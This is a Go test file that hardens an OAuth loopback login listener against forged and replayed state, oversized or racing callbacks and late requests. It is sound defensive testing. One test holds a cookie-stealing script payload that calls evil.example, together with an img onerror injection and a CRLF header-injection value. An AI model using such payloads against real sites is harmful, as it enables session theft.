package oauthflow

import (
	"context"
	"io"
	"net"
	"net/http"
	"net/url"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/credworkbench/credworkbench/credentials"
	"github.com/credworkbench/credworkbench/internal/testenv"
	"github.com/credworkbench/credworkbench/oauthflow/idp"
)

// Attacks on the loopback listener of a real login (Service.Login against an
// in-process OIDC provider). The "browser" is played by the tests.

// waitingLogin starts a login against a fake IdP whose browser hands the
// start address to the test (and opens nothing).
func waitingLogin(t *testing.T, timeout time.Duration) (s *Service, startURL string, result <-chan Result) {
	t.Helper()
	op := newFakeOIDC(t)
	s = ccService(t, testenv.NewMemKeyring())
	p := saveUserProfile(t, s.repo, op.srv.URL, "fake-client", "", func(p *credentials.Profile) { p.Resource = "" })
	urls := make(chan string, 1)
	s.Browser = newFakeBrowser(func(_ context.Context, u string) error { urls <- u; return nil })
	out := make(chan Result, 1)
	go func() {
		res, err := s.Login(context.Background(), p.Name, LoginOptions{Timeout: timeout})
		if err != nil {
			res.Failure = &Failure{Category: CatOther, Message: err.Error()}
		}
		out <- res
	}()
	select {
	case startURL = <-urls:
	case <-time.After(10 * time.Second):
		t.Fatal("the login did not open the browser")
	}
	return s, startURL, out
}

// attackLogin starts a login whose browser hands its URL to the test, and
// returns the login's redirect URI, its state and a channel with the result.
func attackLogin(t *testing.T, timeout time.Duration) (s *Service, redirect *url.URL, state string, result <-chan Result) {
	t.Helper()
	s, startURL, out := waitingLogin(t, timeout)
	victim := browserClient()
	authURL, err := openStart(context.Background(), victim, startURL)
	if err != nil {
		t.Fatal(err)
	}
	// The victim's browser (with the start cookie) answers on that host.
	victim.CheckRedirect = nil
	if su, err := url.Parse(startURL); err == nil {
		browsers.Store(su.Host, victim)
		t.Cleanup(func() { browsers.Delete(su.Host) })
	}
	u, err := url.Parse(authURL)
	if err != nil {
		t.Fatal(err)
	}
	redirect, err = url.Parse(u.Query().Get("redirect_uri"))
	if err != nil {
		t.Fatal(err)
	}
	return s, redirect, u.Query().Get("state"), out
}

// callbackURL is the redirect URI with a query.
func callbackURL(redirect *url.URL, q url.Values) string {
	u := *redirect
	u.RawQuery = q.Encode()
	return u.String()
}

// browsers holds the browser each login was started in, by listener host:
// fetch acts as that browser (with the start cookie).
var browsers sync.Map

func fetch(t *testing.T, u string) (int, string) {
	t.Helper()
	c := &http.Client{Timeout: 10 * time.Second}
	if pu, err := url.Parse(u); err == nil {
		if b, ok := browsers.Load(pu.Host); ok {
			c = b.(*http.Client)
		}
	}
	resp, err := c.Get(u)
	if err != nil {
		t.Fatalf("GET %s: %v", u, err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b)
}

func waitResult(t *testing.T, out <-chan Result, d time.Duration) Result {
	t.Helper()
	select {
	case r := <-out:
		return r
	case <-time.After(d):
		t.Fatalf("the login did not end within %v", d)
		return Result{}
	}
}

// The listener is on 127.0.0.1 only: no other local address reaches it, and
// a request there does not end the login.
func TestHardeningListenerLoopbackOnly(t *testing.T) {
	_, redirect, state, out := attackLogin(t, 20*time.Second)
	if redirect.Hostname() != "127.0.0.1" || redirect.Port() == "" || redirect.Path != "/callback" {
		t.Fatalf("redirect URI %s, want http://127.0.0.1:<port>/callback", redirect)
	}
	var others []string
	addrs, err := net.InterfaceAddrs()
	if err != nil {
		t.Fatal(err)
	}
	for _, a := range addrs {
		if ipn, ok := a.(*net.IPNet); ok && !ipn.IP.IsLoopback() {
			others = append(others, ipn.IP.String())
		}
	}
	others = append(others, "::1", "127.0.0.2")
	nonLoopback := 0
	for _, ip := range others {
		target := net.JoinHostPort(ip, redirect.Port())
		c, err := net.DialTimeout("tcp", target, time.Second)
		if err == nil {
			c.Close()
			t.Errorf("the login listener is reachable at %s", target)
		}
		if ip := net.ParseIP(ip); ip != nil && !ip.IsLoopback() && !ip.IsUnspecified() {
			nonLoopback++
		}
	}
	t.Logf("port %s refused on %v (%d non-loopback addresses)", redirect.Port(), others, nonLoopback)
	// The real callback still ends the login.
	status, _ := fetch(t, callbackURL(redirect, url.Values{"code": {"unknown-code"}, "state": {state}}))
	res := waitResult(t, out, 15*time.Second)
	if status != http.StatusOK || res.Active() || res.Failure == nil || res.Failure.HTTPStatus != http.StatusBadRequest {
		// The code is unknown to the IdP: the exchange (not the listener) refuses it.
		t.Fatalf("callback %d, result %s %v", status, res.Status, res.Failure)
	}
}

// A forged state is answered 400 without ending the login (the real
// answer still completes it); the state of a finished login replayed at a
// new login is refused the same way, and after a few such answers the
// login gives up.
func TestHardeningListenerForgedAndReplayedState(t *testing.T) {
	t.Run("forged", func(t *testing.T) {
		_, redirect, state, out := attackLogin(t, 20*time.Second)
		b := []byte(state)
		b[len(b)-1] ^= 1 // same length, one bit off
		forged := string(b)
		status, body := fetch(t, callbackURL(redirect, url.Values{"code": {"attacker-code"}, "state": {forged}}))
		if status != http.StatusBadRequest || !strings.Contains(body, "does not belong to the pending login") {
			t.Fatalf("forged callback answered %d", status)
		}
		select {
		case res := <-out:
			t.Fatalf("a forged state ended the login: %s %v", res.Status, res.Failure)
		case <-time.After(300 * time.Millisecond):
		}
		// Without state but with iss: the same 400, the iss never quoted.
		status, body = fetch(t, callbackURL(redirect, url.Values{"error": {"access_denied"}, "iss": {"https://evil.example/ATTACKER-TEXT"}}))
		if status != http.StatusBadRequest || strings.Contains(body, "ATTACKER-TEXT") {
			t.Fatalf("stateless callback with iss answered %d:\n%s", status, body)
		}
		fetch(t, callbackURL(redirect, url.Values{"code": {"real-code"}, "state": {state}}))
		res := waitResult(t, out, 10*time.Second)
		// The real answer was taken: its (unknown) code went to the IdP.
		if res.Active() || res.Failure == nil || res.Failure.HTTPStatus != http.StatusBadRequest {
			t.Fatalf("after a forged state: %s %+v", res.Status, res.Failure)
		}
	})
	t.Run("replayed", func(t *testing.T) {
		_, redirect1, state1, out1 := attackLogin(t, 20*time.Second)
		old := callbackURL(redirect1, url.Values{"code": {"first-code"}, "state": {state1}})
		fetch(t, old)
		waitResult(t, out1, 10*time.Second)
		// The first listener is gone (once its /done page was shown).
		deadline := time.Now().Add(idp.DoneLinger + 2*time.Second)
		for {
			resp, err := http.Get(old)
			if err != nil {
				break
			}
			resp.Body.Close()
			if time.Now().After(deadline) {
				t.Fatalf("the listener of a finished login still answers (%d)", resp.StatusCode)
			}
			time.Sleep(50 * time.Millisecond)
		}
		_, redirect2, state2, out2 := attackLogin(t, 20*time.Second)
		if state2 == state1 || redirect2.String() == "" {
			t.Fatalf("two logins share the state %q", state1)
		}
		for i := range idp.MaxBadCallbacks {
			status, _ := fetch(t, callbackURL(redirect2, url.Values{"code": {"first-code"}, "state": {state1}}))
			if status != http.StatusBadRequest {
				t.Fatalf("replayed state (try %d) answered %d", i+1, status)
			}
		}
		res := waitResult(t, out2, 10*time.Second)
		if res.Active() || res.Failure == nil || !strings.Contains(res.Failure.Message, "do not belong to it") {
			t.Fatalf("replayed state: %s %v", res.Status, res.Failure)
		}
	})
}

// Many callbacks at once, one of them the IdP's real answer: exactly one is
// accepted, every other is answered 409 (or finds the listener closed), and
// oversized queries are refused without ending the wait.
func TestHardeningListenerSecondAndOversizedCallbacks(t *testing.T) {
	_, redirect, state, out := attackLogin(t, 20*time.Second)
	for _, n := range []int{20 << 10, 1 << 20} {
		c := &http.Client{Timeout: 10 * time.Second}
		resp, err := c.Get(callbackURL(redirect, url.Values{"code": {strings.Repeat("x", n)}, "state": {state}}))
		if err == nil {
			resp.Body.Close()
			// net/http itself answers 400 for a huge request line from Go 1.27 on.
			if resp.StatusCode != http.StatusRequestHeaderFieldsTooLarge && resp.StatusCode != http.StatusBadRequest {
				t.Fatalf("a %d-byte query answered %d, want 431 or 400", n, resp.StatusCode)
			}
		} // a reset connection is a refusal too
	}
	select {
	case res := <-out:
		t.Fatalf("an oversized callback ended the login: %s %v", res.Status, res.Failure)
	case <-time.After(200 * time.Millisecond):
	}
	const racers = 16
	statuses := make(chan int, racers)
	start := make(chan struct{})
	for i := range racers {
		go func() {
			<-start
			b, _ := browsers.Load(redirect.Host)
			resp, err := b.(*http.Client).Get(callbackURL(redirect, url.Values{"code": {"racer-" + strconv.Itoa(i)}, "state": {state}}))
			if err != nil {
				statuses <- 0 // the listener had closed: the login was over
				return
			}
			resp.Body.Close()
			statuses <- resp.StatusCode
		}()
	}
	close(start)
	count := map[int]int{}
	for range racers {
		count[<-statuses]++
	}
	res := waitResult(t, out, 10*time.Second)
	if count[http.StatusOK] != 1 || count[http.StatusOK]+count[http.StatusConflict]+count[0] != racers {
		t.Fatalf("%d simultaneous callbacks answered %v; want exactly one 200 and 409s (or a closed listener) for the rest", racers, count)
	}
	// The fake IdP knows none of the codes: the one accepted was exchanged and refused.
	if res.Active() || res.Failure == nil || res.Failure.HTTPStatus != http.StatusBadRequest {
		t.Fatalf("result %s %+v", res.Status, res.Failure)
	}
	t.Logf("%d simultaneous callbacks: %v", racers, count)
}

// An error_description carrying HTML/JS is escaped in the page and stripped
// of control characters in the failure.
func TestHardeningListenerErrorDescriptionEscaped(t *testing.T) {
	_, redirect, state, out := attackLogin(t, 20*time.Second)
	desc := `</p><script>fetch("https://evil.example/?c="+document.cookie)</script><img src=x onerror=alert(1)>` + "\r\nX-Injected: 1"
	status, body := fetch(t, callbackURL(redirect, url.Values{"error": {"access_denied"}, "error_description": {desc}, "state": {state}}))
	res := waitResult(t, out, 10*time.Second)
	if status != http.StatusBadRequest {
		t.Fatalf("status %d", status)
	}
	for _, bad := range []string{"<script>fetch", "<img src=x", "</p><script", "evil.example/?c=\"+document"} {
		if strings.Contains(body, bad) {
			t.Fatalf("the page carries %q unescaped:\n%s", bad, body)
		}
	}
	// The markup is stripped and what text remains is shown escaped.
	if !strings.Contains(body, "fetch(&#34;https://evil.example") {
		t.Fatalf("the description's text is not shown escaped:\n%s", body)
	}
	if strings.Count(body, "<script") > 1 { // the page's own close script only
		t.Fatalf("more than one script element:\n%s", body)
	}
	f := res.Failure
	if f == nil || f.Category != CatLogin || f.IdPError != "access_denied" || strings.ContainsAny(f.IdPDescription, "\r\n") {
		t.Fatalf("failure %+v", f)
	}
}

// A callback after the login timed out reaches nothing: the listener closed
// with the timeout, and the result says what happened.
func TestHardeningListenerCallbackAfterTimeout(t *testing.T) {
	_, redirect, state, out := attackLogin(t, 500*time.Millisecond)
	res := waitResult(t, out, 10*time.Second)
	if res.Active() || res.Failure == nil || res.Failure.Category != CatLogin || !strings.Contains(res.Failure.Message, "No login response arrived within") {
		t.Fatalf("timed-out login: %s %v", res.Status, res.Failure)
	}
	c := &http.Client{Timeout: 2 * time.Second}
	resp, err := c.Get(callbackURL(redirect, url.Values{"code": {"late"}, "state": {state}}))
	if err == nil {
		resp.Body.Close()
		t.Fatalf("a late callback was answered %d: the listener outlived the login", resp.StatusCode)
	}
	port, _ := strconv.Atoi(redirect.Port())
	if l, err := net.Listen("tcp4", net.JoinHostPort("127.0.0.1", strconv.Itoa(port))); err != nil {
		t.Errorf("port %d is still taken after the login ended: %v", port, err)
	} else {
		l.Close()
	}
}
